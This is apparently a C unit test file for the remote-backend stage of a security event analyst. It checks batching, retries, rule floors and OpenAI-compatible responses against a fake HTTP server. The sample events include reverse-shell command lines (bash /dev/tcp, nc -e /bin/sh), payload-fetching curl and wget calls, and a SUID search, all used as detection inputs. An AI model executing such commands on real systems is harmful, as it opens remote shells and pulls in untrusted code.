/*
 * test_remote — the analyst's model stage on a remote backend (remote.h),
 * against a scripted local HTTP server (tests/support/fakehttp) that
 * plays another nightjar's /v1/analyze or an OpenAI-compatible
 * /v1/chat/completions.
 * What is checked: the spec forms and their errors; that rules decide
 * without the network; batches in order; a rule's floor; retries with
 * backoff; an unavailable backend (NJ_ENET) while rule verdicts still
 * come; a refused batch retried one event at a time; 413 halving; the
 * OpenAI request (messages, schema) and its answer, with and without
 * log-probabilities; answers that are not JSON.  The real servers (a
 * second nightjar, llama-server) are in tests/agent/test_backend.py.
 */
#include "testutil.h"

#include <arpa/inet.h>
#include <math.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "analyst.h"
#include "event.h"
#include "fakehttp.h"
#include "remote.h"
#include "util.h"

/* What the fake backend answers (read by answer() under the server's lock). */
static struct {
    int   max_events;             /* /v1/analyze: more is a 413 (0: no limit) */
    const char *label;            /* what the fake model answers */
    bool  refuse_logprobs;        /* chat: 400 when logprobs are asked for (as nightjar does) */
    bool  give_logprobs;          /* chat: answer with a logprobs block */
    bool  garbage;                /* answer 200 with text that is not JSON */
} srv;

static fakehttp *g_http;
static int g_port;
static char g_spec[128];

/* doc as text in malloc'd memory (jansson's is nj_malloc'd); takes doc. */
static char *dump(json_t *doc) {
    char *t = json_dumps(doc, JSON_COMPACT);
    char *out = strdup(t ? t : "{}");
    nj_free(t);
    json_decref(doc);
    return out;
}

/* /v1/analyze: one verdict per event, in order, naming the event. */
static char *analyze_answer(const char *body, int *status) {
    json_t *req = json_loads(body, 0, NULL);
    json_t *evs = json_object_get(req, "events");
    size_t n = json_array_size(evs);
    char *out = NULL;
    if (!n) {
        *status = 400;
        out = strdup("{\"error\":{\"message\":\"events: expected a non-empty array\"}}");
    } else if (srv.max_events && n > (size_t)srv.max_events) {
        *status = 413;
        out = strdup("{\"error\":{\"message\":\"too many events\"}}");
    } else {
        json_t *vs = json_array();
        size_t i;
        json_t *ev;
        json_array_foreach(evs, i, ev) {
            const char *cmd = json_string_value(json_object_get(json_object_get(ev, "process"), "cmdline"));
            if (cmd && strstr(cmd, "REFUSE")) {
                *status = 400;
                json_decref(vs);
                json_decref(req);
                return strdup("{\"error\":{\"message\":\"events[0]: refused\"}}");
            }
            json_array_append_new(vs, json_pack("{s:s, s:s, s:f, s:[s], s:s, s:s, s:[], s:s, s:s}", "event_id",
                                                json_string_value(json_object_get(ev, "id")), "verdict", srv.label,
                                                "confidence", 0.7, "techniques", "T1059", "summary", "fake",
                                                "source", "model", "rule_ids", "model", "fake.gguf", "prompt", "analyst-v1"));
        }
        out = dump(json_pack("{s:o}", "verdicts", vs));
        *status = 200;
    }
    json_decref(req);
    return out;
}

/* /v1/chat/completions: a verdict document as the message content. */
static char *chat_answer(const char *body, int *status) {
    json_t *req = json_loads(body, 0, NULL);
    bool lp = json_is_true(json_object_get(req, "logprobs"));
    json_decref(req);
    if (lp && srv.refuse_logprobs) {
        *status = 400;
        return strdup("{\"error\":{\"message\":\"'logprobs' is not supported\",\"type\":\"invalid_request_error\"}}");
    }
    char content[256];
    snprintf(content, sizeof content, "{\"verdict\": \"%s\", \"techniques\": [\"T1562.001\"], \"summary\": \"fake\"}",
             srv.label);
    json_t *msg = json_pack("{s:s, s:s}", "role", "assistant", "content", content);
    json_t *choice = json_pack("{s:i, s:o, s:s}", "index", 0, "message", msg, "finish_reason", "stop");
    if (lp && srv.give_logprobs) {
        /* tokens: a code fence the server's JSON extraction dropped, then
         * {"verdict": "  mal  icious ... with the label's candidates */
        json_t *toks = json_pack("[{s:s, s:f, s:[]}, {s:s, s:f, s:[]}, {s:s, s:f, s:[]}, {s:s, s:f, s:[]},"
                                 " {s:s, s:f, s:[{s:s, s:f}, {s:s, s:f}, {s:s, s:f}, {s:s, s:f}]},"
                                 " {s:s, s:f, s:[]}]",
                                 "token", "```", "logprob", -0.1, "top_logprobs",
                                 "token", "{\"", "logprob", -0.1, "top_logprobs",
                                 "token", "verdict", "logprob", -0.1, "top_logprobs",
                                 "token", "\": \"", "logprob", -0.1, "top_logprobs",
                                 "token", "mal", "logprob", -0.5, "top_logprobs",
                                 "token", "mal", "logprob", -0.5, "token", "ben", "logprob", -1.5,
                                 "token", "sus", "logprob", -2.0, "token", "The", "logprob", -3.0,
                                 "token", "icious", "logprob", -0.1, "top_logprobs");
        json_object_set_new(choice, "logprobs", json_pack("{s:o}", "content", toks));
    }
    json_t *doc = json_pack("{s:s, s:s, s:[o]}", "object", "chat.completion", "model", "served-model", "choices", choice);
    *status = 200;
    return dump(doc);
}

/* The fake backend: another nightjar's /v1/analyze, an OpenAI-compatible
 * /v1/models and /v1/chat/completions, or text that is not JSON. */
static char *answer(void *ud, const fakehttp_req *q, int *status) {
    (void)ud;
    if (srv.garbage) return strdup("<html>not json</html>");
    if (!strcmp(q->url, "/v1/models")) return strdup("{\"object\":\"list\",\"data\":[{\"id\":\"m1\",\"object\":\"model\"}]}");
    if (!strcmp(q->url, "/v1/analyze")) return analyze_answer(q->body, status);
    if (!strcmp(q->url, "/v1/chat/completions")) return chat_answer(q->body, status);
    *status = 404;
    return strdup("{\"error\":{\"message\":\"no such route\"}}");
}

static void reset(void) {
    fakehttp_reset(g_http);
    fakehttp_lock(g_http);
    srv.max_events = 0;
    srv.label = "suspicious";
    srv.refuse_logprobs = srv.give_logprobs = srv.garbage = false;
    fakehttp_unlock(g_http);
}

/* The next n requests are refused with status. */
static void fail_next(int n, int status) {
    fakehttp_fail_next(g_http, n, status, "{\"error\":{\"message\":\"busy\"}}");
}

static int requests(const char *url) { return fakehttp_count(g_http, url); }

/* Recorded request i (-1: the latest); the test fails if there is none. */
static const fakehttp_req *request_at(int i) {
    const fakehttp_req *q = fakehttp_get(g_http, i);
    if (!q) fail_msg("no request %d (%d recorded)", i, fakehttp_count(g_http, NULL));
    return q;
}

static int server_up(void **state) {
    (void)state;
    event_init();   /* jansson allocates through nj_malloc, here too */
    g_http = fakehttp_start(answer, NULL, NULL);
    if (!g_http) return -1;
    g_port = fakehttp_port(g_http);
    reset();
    return 0;
}

static int server_down(void **state) {
    (void)state;
    fakehttp_stop(g_http);
    g_http = NULL;
    return 0;
}

static json_t *cmd_event(const char *cmd, long n) {
    int err = 0;
    json_t *ev = event_from_cmdline(cmd, strlen(cmd), n, &err);
    assert_non_null(ev);
    return ev;
}

static analyst *remote_analyst(const char *mode, int retries) {
    snprintf(g_spec, sizeof g_spec, "%s+http://127.0.0.1:%d", mode, g_port);
    analyst_opts o = {.data_dir = ".", .backend = g_spec, .backend_token = "sekrit", .backend_retries = retries,
                      .no_retrieval = true};
    int err = 0;
    analyst *a = analyst_new(&o, &err);
    if (!a) fail_msg("analyst_new: %s (%s)", nj_last_error(), nj_strerror(err));
    return a;
}

static const char *vstr(const json_t *v, const char *k) { return json_string_value(json_object_get(v, k)); }

/* The spec names its mode; credentials never reach the name. */
static void test_specs(void **st) {
    (void)st;
    const char *bad[] = {"http://127.0.0.1:8080", "nightjar+ftp://x", "foo+http://x", "openai+unix:rel.sock",
                         "nightjar+http://", "openai+"};
    for (size_t i = 0; i < NJ_ARRAY_LEN(bad); i++) {
        int err = 0;
        remote_opts o = {.spec = bad[i]};
        assert_null(remote_new(&o, &err));
        assert_int_equal(err, -EINVAL);
        assert_non_null(strstr(nj_last_error(), bad[i]));   /* the message names the spec */
    }
    struct { const char *spec, *name; remote_kind kind; } good[] = {
        {"nightjar+http://127.0.0.1:8080/", "nightjar+http://127.0.0.1:8080", REMOTE_NIGHTJAR},
        {"openai+https://user:pw@gpu.example:8000/v1", "openai+https://gpu.example:8000", REMOTE_OPENAI},
        {"nightjar+unix:/run/nightjar.sock", "nightjar+unix:/run/nightjar.sock", REMOTE_NIGHTJAR},
    };
    for (size_t i = 0; i < NJ_ARRAY_LEN(good); i++) {
        int err = 0;
        remote_opts o = {.spec = good[i].spec};
        remote *r = remote_new(&o, &err);
        assert_non_null(r);
        assert_string_equal(remote_name(r), good[i].name);
        assert_int_equal(remote_get_kind(r), good[i].kind);
        remote_free(r);
    }
}

/* Rules decide without the network; the rest goes in batches of 16, in
 * order; verdicts say where they came from. */
static void test_nightjar_batches(void **st) {
    (void)st;
    reset();
    analyst *a = remote_analyst("nightjar", 0);
    enum { N = 20 };
    json_t *evs[N], *v[N];
    char cmd[64];
    for (int i = 0; i < N; i++) {
        if (i == 3) snprintf(cmd, sizeof cmd, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
        else snprintf(cmd, sizeof cmd, "tool-%d --flag", i);
        evs[i] = cmd_event(cmd, i + 1);
    }
    assert_int_equal(analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, N, v), 0);
    assert_int_equal(requests("/v1/analyze"), 2);   /* 16 + 3 */
    char model[160];
    snprintf(model, sizeof model, "%s/fake.gguf", g_spec);
    for (int i = 0; i < N; i++) {
        assert_non_null(v[i]);
        assert_string_equal(vstr(v[i], "event_id"), vstr(evs[i], "id"));
        if (i == 3) {
            assert_string_equal(vstr(v[i], "source"), "rule");
            assert_string_equal(vstr(v[i], "verdict"), "malicious");
        } else {
            assert_string_equal(vstr(v[i], "source"), "remote");
            assert_string_equal(vstr(v[i], "remote_source"), "model");
            assert_string_equal(vstr(v[i], "model"), model);
            assert_string_equal(vstr(v[i], "verdict"), "suspicious");
        }
        json_decref(v[i]);
    }
    /* the remote saw the open events in order, the rule's one not at all */
    json_t *b0 = json_loads(request_at(0)->body, 0, NULL), *b1 = json_loads(request_at(1)->body, 0, NULL);
    assert_string_equal(request_at(0)->auth, "Bearer sekrit");
    assert_int_equal(json_array_size(json_object_get(b0, "events")), 16);
    assert_int_equal(json_array_size(json_object_get(b1, "events")), 3);
    int want = 1;
    for (int k = 0; k < 2; k++) {
        size_t i;
        json_t *ev;
        json_array_foreach(json_object_get(k ? b1 : b0, "events"), i, ev) {
            if (want == 4) want++;   /* the rule's */
            char id[32];
            snprintf(id, sizeof id, "cmdline:%d", want++);
            assert_string_equal(json_string_value(json_object_get(ev, "id")), id);
        }
    }
    json_decref(b0);
    json_decref(b1);
    /* the same events again come from the local cache: no request */
    assert_int_equal(analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, N, v), 0);
    assert_int_equal(requests("/v1/analyze"), 2);
    assert_string_equal(vstr(v[0], "source"), "cache");
    for (int i = 0; i < N; i++) {
        json_decref(v[i]);
        json_decref(evs[i]);
    }
    analyst_free(a);
}

/* A rule's suspicious verdict is a floor the remote cannot lower. */
static void test_rule_floor(void **st) {
    (void)st;
    reset();
    srv.label = "benign";
    analyst *a = remote_analyst("nightjar", 0);
    json_t *ev = cmd_event("find / -perm -4000 -type f", 1), *v = NULL;
    assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
    assert_int_equal(requests("/v1/analyze"), 1);
    assert_string_equal(vstr(v, "verdict"), "suspicious");
    assert_true(json_array_size(json_object_get(v, "rule_ids")) >= 1);
    json_decref(v);
    json_decref(ev);
    analyst_free(a);
}

/* 503 twice, then an answer: the call retries with backoff. */
static void test_retries(void **st) {
    (void)st;
    reset();
    fail_next(2, 503);
    analyst *a = remote_analyst("nightjar", 3);
    json_t *ev = cmd_event("uname -a", 1), *v = NULL;
    assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
    assert_string_equal(vstr(v, "source"), "remote");
    analyst_stats s;
    analyst_get_stats(a, &s);
    assert_int_equal(s.remote_retries, 2);
    assert_int_equal(requests("/v1/analyze"), 3);
    json_decref(v);
    json_decref(ev);
    analyst_free(a);
}

/* A backend that stays down: NJ_ENET for the open events, rule verdicts
 * still given; the same for a port nobody listens on. */
static void test_unavailable(void **st) {
    (void)st;
    reset();
    fail_next(1000, 503);
    analyst *a = remote_analyst("nightjar", 1);
    json_t *evs[3] = {cmd_event("uname -a", 1), cmd_event("nc -e /bin/sh 10.0.0.1 4444", 2), cmd_event("id", 3)};
    json_t *v[3];
    assert_int_equal(analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, 3, v), NJ_ENET);
    assert_non_null(strstr(nj_last_error(), "unavailable after 2 attempts"));
    assert_null(v[0]);
    assert_null(v[2]);
    assert_non_null(v[1]);
    assert_string_equal(vstr(v[1], "source"), "rule");
    json_decref(v[1]);
    assert_int_equal(requests("/v1/analyze"), 2);   /* one batch, one retry */
    analyst_free(a);

    /* nobody listening */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t sl = sizeof sa;
    assert_int_equal(bind(s, (struct sockaddr *)&sa, sl), 0);
    getsockname(s, (struct sockaddr *)&sa, &sl);
    close(s);   /* a port that was free a moment ago: connections are refused */
    char spec[80];
    snprintf(spec, sizeof spec, "openai+http://127.0.0.1:%d", ntohs(sa.sin_port));
    analyst_opts o = {.data_dir = ".", .backend = spec, .backend_retries = -1, .no_retrieval = true};
    int err = 0;
    a = analyst_new(&o, &err);
    assert_non_null(a);
    assert_int_equal(analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, 3, v), NJ_ENET);
    assert_null(v[0]);
    assert_non_null(v[1]);
    json_decref(v[1]);
    analyst_free(a);
    for (int i = 0; i < 3; i++) json_decref(evs[i]);
}

/* A refused batch is retried one event per request; a 413 halves it. */
static void test_refused_and_too_big(void **st) {
    (void)st;
    reset();
    analyst *a = remote_analyst("nightjar", 0);
    json_t *evs[5] = {cmd_event("a1", 1), cmd_event("a2 REFUSE", 2), cmd_event("a3", 3), cmd_event("a4", 4),
                      cmd_event("a5", 5)};
    json_t *v[5];
    int rc = analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, 5, v);
    assert_int_equal(rc, -EINVAL);
    assert_non_null(strstr(nj_last_error(), "HTTP 400"));
    for (int i = 0; i < 5; i++) {
        if (i == 1) assert_null(v[i]);
        else assert_non_null(v[i]);
        json_decref(v[i]);
    }
    assert_int_equal(requests("/v1/analyze"), 6);   /* the batch, then each */
    analyst_free(a);

    reset();
    srv.max_events = 2;
    a = remote_analyst("nightjar", 0);
    for (int i = 0; i < 5; i++) json_decref(evs[i]);
    for (int i = 0; i < 5; i++) {
        char c[16];
        snprintf(c, sizeof c, "b%d", i);
        evs[i] = cmd_event(c, i + 1);
    }
    assert_int_equal(analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, 5, v), 0);
    for (int i = 0; i < 5; i++) {
        assert_non_null(v[i]);
        assert_string_equal(vstr(v[i], "event_id"), vstr(evs[i], "id"));
        json_decref(v[i]);
        json_decref(evs[i]);
    }
    /* 5 -> 413; 2 -> 413 ... then batches of at most 2 */
    assert_true(requests("/v1/analyze") >= 4);
    analyst_free(a);
}

/* OpenAI mode: the analyst's messages and schema go out; the verdict
 * document comes back.  A server that refuses logprobs is asked without. */
static void test_openai(void **st) {
    (void)st;
    reset();
    srv.label = "malicious";
    srv.refuse_logprobs = true;
    analyst *a = remote_analyst("openai", 0);
    json_t *ev = cmd_event("curl -s http://203.0.113.9/x", 1), *v = NULL;
    assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
    assert_string_equal(vstr(v, "verdict"), "malicious");
    assert_string_equal(vstr(v, "source"), "remote");
    char model[160];
    snprintf(model, sizeof model, "%s/m1", g_spec);
    assert_string_equal(vstr(v, "model"), model);
    /* old ATT&CK ids are renumbered as for a local model */
    assert_string_equal(json_string_value(json_array_get(json_object_get(v, "techniques"), 0)), "T1685");
    assert_null(json_object_get(v, "scores"));
    json_decref(v);
    assert_int_equal(requests("/v1/models"), 1);
    assert_int_equal(requests("/v1/chat/completions"), 2);   /* with logprobs (400), then without */
    json_t *req = json_loads(request_at(-1)->body, 0, NULL);
    assert_null(json_object_get(req, "logprobs"));
    assert_string_equal(json_string_value(json_object_get(req, "model")), "m1");
    json_t *msgs = json_object_get(req, "messages");
    assert_int_equal(json_array_size(msgs), 2);
    assert_string_equal(json_string_value(json_object_get(json_array_get(msgs, 0), "role")), "system");
    const char *user = json_string_value(json_object_get(json_array_get(msgs, 1), "content"));
    assert_non_null(strstr(user, "<event>"));
    assert_non_null(strstr(user, "203.0.113.9"));
    json_t *rf = json_object_get(req, "response_format");
    assert_string_equal(json_string_value(json_object_get(rf, "type")), "json_schema");
    json_t *schema = json_object_get(json_object_get(rf, "json_schema"), "schema");
    json_t *want = json_loads(analyst_verdict_schema, 0, NULL);
    assert_true(json_equal(schema, want));
    json_decref(want);
    json_decref(req);
    /* the next event: logprobs are no longer asked for */
    json_decref(ev);
    ev = cmd_event("wget http://203.0.113.9/y", 2);
    assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
    assert_int_equal(requests("/v1/chat/completions"), 3);
    json_decref(v);
    json_decref(ev);
    analyst_free(a);
}

/* With log-probabilities the label's probabilities become the scores; the
 * label's position is found in the tokens' own text. */
static void test_openai_logprobs(void **st) {
    (void)st;
    reset();
    srv.label = "malicious";
    srv.give_logprobs = true;
    analyst *a = remote_analyst("openai", 0);
    json_t *ev = cmd_event("nohup ./.sysupdate -t 2 &", 1), *v = NULL;
    assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
    json_t *sc = json_object_get(v, "scores");
    assert_non_null(sc);
    double m = json_number_value(json_object_get(sc, "malicious")), b = json_number_value(json_object_get(sc, "benign")),
           s = json_number_value(json_object_get(sc, "suspicious"));
    assert_true(m > b && b > s && s > 0);
    assert_true(fabs(m + b + s - 1.0) < 0.01);
    assert_string_equal(vstr(v, "verdict"), "malicious");
    json_decref(v);
    json_decref(ev);
    analyst_free(a);
}

/* An answer that is not JSON is an error for the event, not a retry loop. */
static void test_garbage(void **st) {
    (void)st;
    reset();
    srv.garbage = true;
    analyst *a = remote_analyst("nightjar", 3);
    json_t *ev = cmd_event("uname -a", 1), *v = NULL;
    assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), NJ_EFORMAT);
    assert_null(v);
    assert_int_equal(requests("/v1/analyze"), 1);
    json_decref(ev);
    analyst_free(a);
}

/* Allocation failures anywhere on the way (request, answer, verdicts) give
 * an error or verdicts, never a crash or a leak. */
static void test_alloc_failure(void **st) {
    (void)st;
    for (int mode = 0; mode < 2; mode++) {
        reset();
        srv.label = "suspicious";
        snprintf(g_spec, sizeof g_spec, "%s+http://127.0.0.1:%d", mode ? "openai" : "nightjar", g_port);
        analyst_opts o = {.data_dir = ".", .backend = g_spec, .backend_retries = -1, .no_retrieval = true,
                          .no_cache = true, .backend_model = "m1"};
        int err = 0;
        analyst *a = analyst_new(&o, &err);
        assert_non_null(a);
        json_t *evs[2] = {cmd_event("uname -a", 1), cmd_event("id", 2)};
        json_t *v[2];
        /* warm up: the response buffer reaches its size */
        assert_int_equal(analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, 2, v), 0);
        json_decref(v[0]);
        json_decref(v[1]);
        size_t base = nj_mem_in_use();
        int ok = 0, failed = 0;
        for (long k = 0; k < 400; k++) {
            nj_alloc_fail_after(k);
            int rc = analyst_judge_batch(a, NULL, NULL, (const json_t *const *)evs, 2, v);
            nj_alloc_fail_after(-1);
            if (rc == 0) ok++;
            else failed++;
            for (int i = 0; i < 2; i++) json_decref(v[i]);
            assert_int_equal(nj_mem_in_use(), base);
        }
        assert_true(failed > 0 && ok > 0);
        json_decref(evs[0]);
        json_decref(evs[1]);
        analyst_free(a);
    }
}

/* Answers checked without the network (the fuzz target's entry): odd
 * tokens in logprobs, techniques that are not ATT&CK ids, a long summary,
 * scores out of range, a floor above the remote's label. */
static void test_answers(void **st) {
    (void)st;
    reset();
    analyst *o = remote_analyst("openai", 0), *n = remote_analyst("nightjar", 0);
    const char *a1 = "{\"choices\":[{\"message\":{\"content\":\"{\\\"verdict\\\": \\\"benign\\\"}\"},"
                     "\"logprobs\":{\"content\":[{\"token\":7},{\"token\":\"{\\\"verdict\\\": \\\"\"},"
                     "{\"token\":\"ben\",\"top_logprobs\":[{\"token\":\"ben\",\"logprob\":-0.1},{\"token\":\"x\"}]}]}}]}";
    json_t *v = NULL;
    assert_int_equal(analyst_remote_answer(o, a1, strlen(a1), AV_SUSPICIOUS, &v), 0);
    assert_string_equal(vstr(v, "verdict"), "suspicious");   /* the floor */
    json_decref(v);
    char a2[2048];
    char longsum[700];
    memset(longsum, 'x', sizeof longsum - 1);
    longsum[sizeof longsum - 1] = 0;
    snprintf(a2, sizeof a2, "{\"verdict\":\"malicious\",\"confidence\":7,\"techniques\":[\"T1059\",\"rm -rf\",\"T12\",\"T1059.0011\"],"
             "\"summary\":\"%s\",\"scores\":{\"benign\":2}}", longsum);
    assert_int_equal(analyst_remote_answer(n, a2, strlen(a2), AV_BENIGN, &v), 0);
    assert_true(json_number_value(json_object_get(v, "confidence")) <= 1.0);
    assert_int_equal(json_array_size(json_object_get(v, "techniques")), 1);
    assert_int_equal(strlen(vstr(v, "summary")), 400);
    assert_null(json_object_get(v, "scores"));
    json_decref(v);
    assert_int_equal(analyst_remote_answer(n, "[1]", 3, AV_BENIGN, &v), NJ_EFORMAT);
    assert_int_equal(analyst_remote_answer(o, "{}", 2, AV_BENIGN, &v), NJ_EFORMAT);
    assert_null(v);
    analyst_free(o);
    analyst_free(n);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_specs),
        cmocka_unit_test(test_nightjar_batches),
        cmocka_unit_test(test_rule_floor),
        cmocka_unit_test(test_retries),
        cmocka_unit_test(test_unavailable),
        cmocka_unit_test(test_refused_and_too_big),
        cmocka_unit_test(test_openai),
        cmocka_unit_test(test_openai_logprobs),
        cmocka_unit_test(test_garbage),
        cmocka_unit_test(test_alloc_failure),
        cmocka_unit_test(test_answers),
    };
    return cmocka_run_group_tests_name("remote", tests, server_up, server_down);
}
